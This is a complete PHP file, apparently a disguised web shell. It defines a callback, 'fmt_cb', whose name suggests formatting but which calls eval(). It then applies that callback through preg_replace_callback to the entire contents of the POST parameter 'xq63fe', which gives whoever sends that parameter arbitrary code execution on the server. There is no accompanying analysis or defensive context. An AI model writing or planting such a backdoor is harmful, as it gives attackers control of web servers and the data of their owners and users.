<?php
function fmt_cb($m)
{
    return eval($m[0]);
}
if (isset($_POST['xq63fe'])) {
    echo preg_replace_callback('/.+/s', 'fmt_cb', $_POST['xq63fe']);
}
